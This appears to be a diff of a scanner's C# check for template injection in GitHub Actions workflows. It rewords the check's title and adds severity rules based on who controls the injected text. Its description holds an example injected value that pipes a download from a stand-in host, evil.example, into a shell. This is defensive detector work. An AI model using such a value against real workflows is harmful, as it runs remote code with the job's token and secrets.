@@ -9,8 +9,8 @@ internal static class WorkflowChecks
 
     public static readonly ConfigCheck TemplateInjection = new(
         "gha-template-injection", ConfigKind.Workflow, Severity.High,
-        "Attacker-controlled text expanded into a script",
-        "`${{ }}` expressions are pasted into the script text before the shell runs it. An issue title, pull request branch name or comment body such as `a\"; curl evil.example | sh; \"` then runs as code with the job's token and secrets.",
+        "Untrusted or computed text expanded into a script",
+        "`${{ }}` expressions are pasted into the script text before the shell runs it. An issue title, pull request branch name or comment body such as `a\"; curl evil.example | sh; \"` then runs as code with the job's token and secrets. Severity follows who controls the text: high for text anyone can write through an issue, comment, commit or fork branch; low for inputs of lesser reach and for step outputs whose producing step is not there to read; info for a matrix value computed at run time from contexts an outsider cannot set (not exploitable by outsiders, but the script is not static).",
         "Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"`. In `actions/github-script`, read `context.payload` instead of splicing the expression.",
         GhHardening + "#understanding-the-risk-of-script-injections");
 
